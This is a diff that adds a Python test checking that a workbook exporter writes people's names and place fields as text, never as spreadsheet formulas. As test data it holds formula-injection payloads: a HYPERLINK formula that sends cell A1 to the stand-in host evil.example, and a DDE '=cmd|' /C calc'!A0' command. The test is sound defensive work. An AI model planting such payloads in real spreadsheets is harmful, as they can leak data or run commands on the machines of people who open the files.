@@ -1,6 +1,7 @@
 import io
 import struct
 import warnings
+import zipfile
 from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
@@ -362,3 +363,35 @@ def test_qr_is_a_png_that_grows_with_the_link(tmp_path: Path) -> None:
     # A full QR code (never Micro QR): at least 21 modules plus a 4-module border, 10 px each.
     assert short[0] >= (21 + 2 * 4) * 10
     assert long[0] > short[0]
+
+
+HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1", "-2", "@SUM(A1:A9)")
+
+
+def test_peoples_text_is_written_as_text_never_as_a_formula(tmp_path: Path) -> None:
+    hostile_name, plus, minus, at = HOSTILE
+    rows = tuple(replace(PLACES[0], name=name) for name in (hostile_name, plus, minus, "=1+1", at))
+    people = tuple(
+        replace(PEOPLE[0], name=name, place=place, group=group)
+        for name, place, group in ((hostile_name, plus, minus), (at, "=A1", "\t=2+2"))
+    )
+    digest = replace(
+        make_digest(rows, name="=cmd|' /C calc'!A0"),
+        recognised_people=people,
+        pending_people=people,
+    )
+    path = write_workbook(digest, tmp_path / "hostile.xlsx", EN)
+    workbook = load_workbook(path)
+    typed = [
+        (cell.value, cell.data_type)
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value.lstrip("\t")[:1] in "=+-@"
+    ]
+    written = {value for value, _ in typed}
+    assert {*HOSTILE, "=1+1", "=A1", "\t=2+2"} <= written
+    assert {data_type for _, data_type in typed} == {"s"}  # read back as strings, unchanged
+    with zipfile.ZipFile(path) as archive:
+        parts = [archive.read(name) for name in archive.namelist() if name.endswith(".xml")]
+    assert not any(b"<f>" in part or b"<f " in part for part in parts)  # no formula at all
